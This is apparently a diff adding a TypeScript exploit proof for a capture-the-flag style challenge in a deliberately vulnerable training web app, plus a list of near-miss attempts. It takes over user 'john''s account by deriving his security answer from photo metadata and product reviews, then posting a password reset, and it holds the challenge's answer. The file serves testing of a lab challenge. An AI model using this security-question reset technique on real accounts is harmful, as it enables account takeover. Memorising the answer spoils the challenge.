@@ -1,0 +1,42 @@
+import { type Attacker, prove } from '@fruit/challenge-kit/proof'
+import { challenge } from './challenge.ts'
+
+const SAPLING = 57
+
+/** Sets a new password by the security question of an account. */
+const reset = (attacker: Attacker, name: string, answer: string) =>
+  attacker.post('/rest/user/reset-password', {
+    email: `${name}@${attacker.domain}`,
+    answer,
+    new: 'Unripe4ever!',
+    repeat: 'Unripe4ever!',
+  })
+
+/** Where the position in the picture is, as somebody tells who has been there. */
+async function placeAt(attacker: Attacker, position: string): Promise<string> {
+  const { data } = (await attacker.get(`/rest/products/${SAPLING}/reviews`)).json() as { data: { message: string }[] }
+  const told = data.find(({ message }) => message.includes(position))?.message
+  return /of ([A-Z][\w ]+?) now/.exec(told ?? '')?.[1] ?? 'nowhere'
+}
+
+export const proof = prove(challenge, {
+  exploit: async (attacker) => {
+    const { data } = (await attacker.get('/rest/memories')).json() as { data: { caption: string }[] }
+    if (!data.some(({ caption }) => /favourite place to walk/.test(caption))) throw new Error('The photo is gone.')
+    // Its metadata say 36.9587 N, 84.3482 W (tools/src/picture-trails.test.ts).
+    await reset(attacker, 'john', await placeAt(attacker, '37 degrees north, 84 west'))
+  },
+  nearMisses: {
+    'the right place for somebody else': (attacker) => reset(attacker, 'emma', 'Daniel Boone National Forest'),
+    'the position instead of the place': (attacker) => reset(attacker, 'john', '36.9587 N, 84.3482 W'),
+    'another forest': (attacker) => reset(attacker, 'john', 'Cumberland National Forest'),
+    'the place in small letters': (attacker) => reset(attacker, 'john', 'daniel boone national forest'),
+    'two passwords that differ': (attacker) =>
+      attacker.post('/rest/user/reset-password', {
+        email: `john@${attacker.domain}`,
+        answer: 'Daniel Boone National Forest',
+        new: 'Unripe4ever!',
+        repeat: 'Unripe4never!',
+      }),
+  },
+})
